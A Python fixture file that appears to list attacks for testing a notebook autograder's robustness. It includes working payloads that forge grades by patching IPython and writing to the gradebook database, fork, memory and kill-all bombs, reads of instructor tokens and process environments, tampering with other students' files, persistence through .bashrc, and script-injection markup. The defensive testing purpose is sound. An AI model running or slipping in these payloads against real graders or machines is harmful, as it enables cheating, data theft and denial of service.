"""Attacks that can be made on ordinary nbgrader and on ours alike, each as a notebook's cell.

``code`` stands where the exercise ``scale`` is solved, ``twice`` is solved rightly. What a solved
exercise looks like is the same in both courses; where an attack has to know how grading works, it
is written for each: ``plain`` against hidden assertions, ``code`` against a response that is
judged elsewhere. ``{home}``, ``{course}`` and ``{port}`` are filled in.
"""

from dataclasses import dataclass, field
from textwrap import dedent

RIGHT, WRONG = (
    "def scale(x, factor):\n    return x * factor\n",
    ("def scale(x, factor):\n    return x * 0\n"),
)
MIME = "application/vnd.labsupport.response+json"


@dataclass
class Attack:
    """``earned`` are the points (of 3.5) that an honest reading of the notebook gives: 1.5 for
    ``twice`` alone. ``unsafe`` says why the plain side of it is not run on this machine."""

    family: str
    name: str
    code: str = WRONG
    plain: str = ""
    earned: float = 1.5
    worth: float = 0.0  # the most it may be given, where that depends on whether it is withstood
    unsafe: str = ""
    cells: list[str] = field(default_factory=list)  # own code cells, after the setup
    markdown: str = ""
    outputs: list[dict] = field(default_factory=list)  # of its first own cell, as handed in
    damage: str = ""  # what is done to the file: see course.damaged
    student: str = ""

    def source(self, ours: bool) -> str:
        return dedent(self.code if ours or not self.plain else self.plain).strip() + "\n"


def answering(body: str) -> str:
    """A function that is right for the visible check and runs ``body`` when it is graded."""
    lines = "".join(f"    {line}\n" for line in dedent(body).strip().splitlines())
    return (
        "import os, sys, time\ndef scale(x, factor):\n    if factor == 3: return x * factor\n"
        f"{lines}    return x * factor\n"
    )


FORGE, USE_UP, REACH, FILES = "forge", "use up", "reach out", "malformed"
_FRAME = """
import sys
def looked_up(*names):
    frame = sys._getframe()
    while frame:
        for name in names:
            if name in frame.f_locals: return frame.f_locals[name]
        frame = frame.f_back
"""

ATTACKS = [
    Attack(
        FORGE,
        "comparisons always true",
        WRONG
        + """
torch.equal = torch.allclose = torch.isclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda *a: True
""",
        WRONG + "import numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\n",
    ),
    Attack(
        FORGE,
        "an object equal to everything",
        """
class Same:
    shape = dtype = property(lambda self: self)
    __eq__ = __le__ = __ge__ = __bool__ = lambda *a: True
    __array__ = lambda self, *a, **k: looked_up("expected")
    __getattr__ = lambda self, name: self
def scale(x, factor):
    return Same()
"""
        + _FRAME,
    ),
    Attack(
        FORGE,
        "the expected value from the caller's frame",
        _FRAME
        + """
def scale(x, factor):
    found = looked_up("expected", "solution", "answer_key")
    return x * 0 if found is None else found
""",
    ),
    Attack(
        FORGE,
        "the expected value from the caller's globals",
        _FRAME
        + """
def scale(x, factor):
    return globals().get("expected", x * 0)
""",
    ),
    Attack(
        FORGE,
        "the expected value out of the test's own text",
        """
import re
def scale(x, factor):
    import numpy as np
    text = globals()["In"][-1]
    found = re.findall(r"expected = np.array\\((.*?)\\)", text)
    found = [np.array(v) for v in map(eval, found) if len(v) == len(x)]
    return found[0] if found else x * 0
""",
    ),
    Attack(
        FORGE,
        "assertions taken out of the syntax tree",
        WRONG
        + """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Call(self, node):
        return ast.Constant(2.0) if '"exercise": "scale"' in ast.dump(node) else node
get_ipython().ast_transformers.append(Drop())
""",
    ),
    Attack(
        FORGE,
        "graded cells rewritten before they run",
        WRONG
        + """
get_ipython().input_transformers_cleanup.append(
    lambda lines: ["2.0"] if asks("".join(lines)) else lines)
def asks(text): return '"exercise": "scale"' in text or "scale(" in text and "allclose" in text
""",
    ),
    Attack(
        FORGE,
        "run_cell replaced",
        WRONG
        + """
shell = get_ipython()
real = shell.run_cell
def run_cell(source, *a, **k):
    asked = '"exercise": "scale"' in source or "scale(" in source and "allclose" in source
    return real("2.0" if asked else source, *a, **k)
shell.run_cell = run_cell
""",
    ),
    Attack(
        FORGE,
        "errors not shown",
        WRONG
        + """
get_ipython().showtraceback = lambda *a, **k: None
get_ipython()._showtraceback = lambda *a, **k: None
""",
    ),
    Attack(
        FORGE,
        "errors not sent",
        WRONG
        + """
session = get_ipython().kernel.session
real = session.send
def send(stream, kind, *a, **k):
    if "error" != kind: return real(stream, kind, *a, **k)
session.send = send
""",
    ),
    Attack(
        FORGE,
        "AssertionError swallowed by a custom handler",
        WRONG
        + """
get_ipython().set_custom_exc((AssertionError,), lambda *a, **k: None)
""",
    ),
    Attack(
        FORGE,
        "full points printed as a result first",
        WRONG
        + """
from IPython.display import display
def pre(info):
    if "scale" not in info.raw_cell: return
    kernel = get_ipython().kernel
    kernel.session.send(kernel.iopub_socket, "execute_result", {"data": {"text/plain": "2.0"},
        "metadata": {}, "execution_count": 1}, parent=kernel.get_parent(), ident=b"x")
get_ipython().events.register("pre_run_cell", pre)
""",
    ),
    Attack(
        FORGE,
        "a response bundle of its own",
        f"""
from IPython.display import display
def scale(x, factor):
    display({{{MIME!r}: {{"nonce": "0", "answers": "passed", "points": 2}}}}, raw=True)
    return x * 0
""",
    ),
    Attack(
        FORGE,
        "a background thread answers",
        WRONG
        + f"""
import threading, time
def answer():
    kernel = get_ipython().kernel
    for _ in range(400):
        try:
            kernel.session.send(kernel.iopub_socket, "display_data", {{"data": {{{MIME!r}:
                {{"nonce": "", "answers": []}}, "text/plain": "2.0"}}, "metadata": {{}}}},
                parent=kernel.get_parent(), ident=b"x")
        except Exception: pass
        time.sleep(0.01)
threading.Thread(target=answer, daemon=True).start()
""",
    ),
    Attack(FORGE, "a graded cell with its points as handed-in output", damage="claims points"),
    Attack(FORGE, "points raised in the metadata", RIGHT, earned=3.5, damage="raises points"),
    Attack(FORGE, "the graded cell deleted", damage="deletes the test"),
    Attack(FORGE, "the graded cell emptied", damage="empties the test"),
    Attack(FORGE, "the graded cell turned into text", damage="retypes the test"),
    Attack(
        FORGE,
        "the instructor's source read",
        """
import glob, json
found = {{}}
for path in glob.glob("{course}/source/*/*.ipynb") + glob.glob("{course}/labs/*.py"):
    text = open(path).read()
    if path.endswith("ipynb"):
        text = "\\n".join("".join(c["source"]) for c in json.loads(text)["cells"])
    body = text.split("def scale")[1].split("###")[1].split("\\n", 1)[1]
    exec("import numpy as np\\ndef scale(x, factor):\\n" + body, found)
def scale(x, factor):
    return found["scale"](x, factor) if found else x * 0
""",
    ),
    Attack(
        FORGE,
        "own marks written into the gradebook",
        WRONG
        + """
import glob, os, subprocess, sys, time
script = '''
import sqlite3, time
time.sleep({wait})
base = sqlite3.connect("{course}/gradebook.db")
base.execute("update grade set manual_score = 99, needs_manual_grade = 0")
base.commit()
'''
if os.path.exists("{course}/gradebook.db"):
    subprocess.Popen([sys.executable, "-c", script], start_new_session=True)
""",
    ),
    Attack(USE_UP, "an endless loop", answering("while True: pass")),
    Attack(
        USE_UP,
        "a loop that cannot be interrupted",
        answering("""
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True: time.sleep(1)
"""),
    ),
    Attack(USE_UP, "an endless loop in an own cell", RIGHT, earned=3.5, cells=["while True: pass"]),
    Attack(USE_UP, "the end of the process", answering("os._exit(0)")),
    Attack(USE_UP, "a segmentation fault", answering("import ctypes; ctypes.string_at(0)")),
    Attack(USE_UP, "the kernel killed", answering("os.kill(os.getpid(), 9)"), worth=3.5),
    Attack(
        USE_UP,
        "the parent killed",
        answering("""
try: os.kill(os.getppid() or 2**22, 9)
except OSError: pass
"""),
        earned=3.5,
    ),
    Attack(
        USE_UP,
        "every process killed",
        answering("os.kill(-1, 9)"),
        unsafe="it ends the measurement with the grader",
    ),
    Attack(
        USE_UP,
        "a fork bomb",
        answering("while True:\n    os.fork()"),
        unsafe="no limit on processes holds for root",
    ),
    Attack(
        USE_UP,
        "a thread bomb",
        answering("""
import threading
held = threading.Event()
for _ in range(10**5): threading.Thread(target=held.wait).start()
"""),
        unsafe="no limit on threads holds for root",
    ),
    Attack(
        USE_UP,
        "memory over many processes",
        answering("""
for _ in range(40):
    if os.fork() == 0:
        held = bytearray(10**9); time.sleep(30)
time.sleep(30)
"""),
        unsafe="it would take all of the machine's memory",
    ),
    Attack(USE_UP, "a memory bomb", answering("held = bytearray(10**11)")),
    Attack(USE_UP, "a flood of text", answering("while True: print('x' * 10_000)")),
    Attack(
        USE_UP,
        "a million outputs",
        answering("""
from IPython.display import display
for n in range(10**6): display(n)
"""),
    ),
    Attack(
        USE_UP,
        "an error with a long traceback, often",
        RIGHT,
        earned=3.5,
        cells=[
            """
k = get_ipython().kernel
for n in range(60):
    k.session.send(k.iopub_socket, "error", {{"ename": "x", "evalue": "y", "traceback":
                   ["z" * 2_000_000]}}, parent=k.get_parent(), ident=b"e")
"""
        ],
    ),
    Attack(USE_UP, "endless recursion", answering("return scale(x, factor + 0.1)")),
    Attack(
        USE_UP,
        "a file of 150 MB",
        answering("""
with open("big", "wb") as file: file.write(b"x" * 150_000_000)
"""),
        earned=3.5,
    ),
    Attack(
        USE_UP,
        "a daemon that stays",
        RIGHT
        + """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True: time.sleep(1)
    os._exit(0)
""",
        earned=3.5,
    ),
    Attack(
        USE_UP,
        "a thread that never ends",
        RIGHT
        + """
import threading
def spin():
    while True: pass
threading.Thread(target=spin).start()
""",
        earned=3.5,
    ),
    Attack(USE_UP, "a question to nobody", answering("input()")),
    Attack(
        USE_UP,
        "noise on stderr with a right answer",
        RIGHT
        + """
import sys
def scale(x, factor, right=scale):
    print("a warning", file=sys.stderr)
    return right(x, factor)
""",
        earned=3.5,
    ),
    Attack(
        REACH,
        "a file of the instructor's",
        RIGHT + 'print(open("{home}/token.txt").read())\n',
        earned=3.5,
    ),
    Attack(
        REACH,
        "the environment",
        RIGHT
        + """
import os
print(os.environ.get("INSTRUCTORS_TOKEN"))
""",
        earned=3.5,
    ),
    Attack(
        REACH,
        "the environment of the parent",
        RIGHT
        + """
import os
print(open(f"/proc/{{os.getppid() or 1}}/environ").read())
""",
        earned=3.5,
    ),
    Attack(
        REACH,
        "another student's submission",
        RIGHT
        + """
import glob
for path in glob.glob("{course}/submitted/zoe/*/*.ipynb"): print(open(path).read()[:10000])
""",
        earned=3.5,
    ),
    Attack(
        REACH,
        "the hidden tests of the course",
        RIGHT
        + """
import glob
for path in glob.glob("{course}/source/*/*.ipynb") + glob.glob("{course}/labs/*"):
    text = open(path).read()
    print(text[text.find("secret-of-" + "the-tests") - 50:][:200])
""",
        earned=3.5,
    ),
    Attack(
        REACH,
        "hidden tests out of the history",
        RIGHT,
        earned=3.5,
        cells=[
            """
def peek():
    import atexit
    get_ipython().events.register("post_run_cell", lambda r: open("seen.txt", "a").write(
        str(r.info.raw_cell)))
peek()
"""
        ],
    ),
    Attack(
        REACH,
        "a service on this machine",
        RIGHT
        + """
import socket
with socket.create_connection(("127.0.0.1", {port}), timeout=1) as s: print(s.recv(100))
""",
        earned=3.5,
    ),
    Attack(
        REACH,
        "a file left in the home folder",
        RIGHT
        + """
open("{home}/.bashrc", "a").write("echo owned\\n")
""",
        earned=3.5,
    ),
    Attack(
        REACH,
        "a start-up file for later kernels",
        RIGHT
        + """
import os
os.makedirs("{home}/.ipython/profile_default/startup", exist_ok=True)
open("{home}/.ipython/profile_default/startup/0.py", "w").write("owned = True\\n")
""",
        earned=3.5,
    ),
    Attack(
        REACH,
        "another student's marks",
        RIGHT
        + """
import sqlite3
base = sqlite3.connect("{course}/gradebook.db", timeout=1)
base.execute("update grade set auto_score = 0, manual_score = 0")
base.commit()
""",
        earned=3.5,
    ),
    Attack(
        REACH,
        "another student's submission changed",
        RIGHT
        + """
import glob
for path in glob.glob("{course}/submitted/zoe/*/*.ipynb"): open(path, "w").write("")
""",
        earned=3.5,
    ),
    Attack(
        REACH,
        "the released tests changed",
        RIGHT
        + """
import glob
for path in glob.glob("{course}/source/*/*.ipynb"): open(path, "a").write(" ")
""",
        earned=3.5,
    ),
    Attack(
        REACH,
        "a script in an output",
        RIGHT,
        earned=3.5,
        cells=[
            """
from IPython.display import HTML, Javascript, display
display(HTML("<script>alert(1)</script><img src=x onerror=alert(1)>")); display(Javascript("1"))
"""
        ],
    ),
    Attack(
        REACH,
        "a script in a drawing",
        RIGHT,
        earned=3.5,
        cells=[
            """
from IPython.display import SVG, display
drawing = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
display({{"image/svg+xml": drawing}}, raw=True)
"""
        ],
    ),
    Attack(
        REACH,
        "a script in a written cell",
        RIGHT,
        earned=3.5,
        markdown="<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>",
    ),
    Attack(
        REACH,
        "a link that runs script",
        RIGHT,
        earned=3.5,
        markdown="[x](javascript:alert(1)) <a href='java&#115;cript:alert(1)'>x</a>",
    ),
    Attack(
        REACH,
        "a picture that tells who reads it",
        RIGHT,
        earned=3.5,
        cells=[
            """
from IPython.display import HTML, display
display(HTML("<img src='http://tracker.invalid/x.png'>"))
"""
        ],
    ),
    Attack(FILES, "a notebook cut short", RIGHT, earned=0, damage="cut"),
    Attack(FILES, "an empty file", RIGHT, earned=0, damage="empty"),
    Attack(FILES, "JSON of great depth", RIGHT, earned=0, damage="deep"),
    Attack(FILES, "all metadata stripped", RIGHT, earned=3.5, damage="stripped"),
    Attack(FILES, "a graded cell twice", RIGHT, earned=3.5, damage="duplicated"),
    Attack(FILES, "an exercise split in two", RIGHT, earned=3.5, damage="split"),
    Attack(FILES, "cells in reverse", RIGHT, earned=3.5, damage="reversed"),
    Attack(FILES, "a link to an instructor's file", RIGHT, earned=0, worth=3.5, damage="link"),
    Attack(FILES, "another student's notebook by a link", earned=0, damage="notebook link"),
    Attack(FILES, "a pipe that nobody writes to", RIGHT, earned=0, worth=3.5, damage="pipe"),
    Attack(FILES, "a module that hides numpy", RIGHT, earned=3.5, damage="module"),
    Attack(
        FILES,
        "half a surrogate pair in an output",
        RIGHT,
        earned=3.5,
        cells=[
            """
k = get_ipython().kernel
about = k.session.msg_header("stream"), k.get_parent()["header"], {{}}
parts = [k.session.pack(p) for p in about]
parts.append(b'{{"name": "stdout", "text": "\\\\ud800"}}')
k.iopub_socket.send_multipart([b"x", b"<IDS|MSG>", k.session.sign(parts), *parts])
"""
        ],
    ),
    Attack(FILES, "a kernel that does not exist", RIGHT, earned=3.5, damage="kernelspec"),
    Attack(
        FILES, "a file that begins with a byte order mark", RIGHT, earned=0, worth=3.5, damage="bom"
    ),
    Attack(FILES, "a student named like a pattern", RIGHT, earned=0, worth=3.5, student="*"),
    Attack(
        FILES,
        "a student named like a tag",
        RIGHT,
        earned=3.5,
        student="<img src=x onerror=alert(1)>",
    ),
]
